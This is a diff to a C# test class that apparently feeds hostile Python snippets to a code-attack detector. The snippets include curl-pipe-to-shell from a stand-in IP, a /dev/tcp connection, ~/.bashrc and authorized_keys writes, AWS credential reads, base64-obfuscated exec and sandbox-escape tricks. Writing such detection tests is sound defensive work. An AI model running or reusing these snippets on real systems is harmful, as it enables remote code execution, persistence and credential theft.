@@ -26,7 +26,7 @@ public sealed class CodeAttackTests
         { "download and run", "import subprocess as sp\nsp.run('curl -s http://198.51.100.7/a.sh | sh', shell=True)\n", "subprocess.run(" },
         { "in a list of arguments", "import subprocess\nsubprocess.Popen(['bash', '-c', 'cat </dev/tcp/198.51.100.7/1'])\n", "subprocess.Popen(" },
         { "start-up file", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", "open(" },
-        { "key of somebody else", "from pathlib import Path\n(Path.home() / '.ssh').mkdir()\nopen('/root/.ssh/authorized_keys', mode='w').write('k')\n", "open(" },
+        { "key of somebody else", "from pathlib import Path\n(Path.home() / '.ssh').mkdir()\nopen('~/.ssh/authorized_keys', mode='w').write('k')\n", "open(" },
         { "decorator", "import base64\n@exec\n@base64.b64decode\ndef x(): pass\nexec(base64.b64decode('eA=='))\n", "exec(" },
         { "text in text", "exec(\"import base64\\nexec(base64.b64decode('cHJpbnQoMSk='))\")\n", "exec(" },
         { "names of the interpreter by hand", "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('eA=='))\n", "exec(" },
@@ -86,7 +86,7 @@ public sealed class CodeAttackTests
         { "second pickle", "import torch\nclass M:\n    def __init__(self):\n        self.w = torch.load('w.bin')\n", "torch.load('w.bin')" },
         { "code of another repository", "import torch\nm = torch.hub.load('a/b', 'c')\n", "torch.hub.load(" },
         { "package installed", "import pip\npip.main(['install', 'x'])\n", "pip.main(" },
-        { "secrets", "open('/home/u/.aws/credentials').read()\n", "open(" },
+        { "secrets", "open('~/.aws/credentials').read()\n", "open(" },
         { "subclasses", "().__class__.__base__.__subclasses__()[1]\n", "__subclasses__" },
     };
 
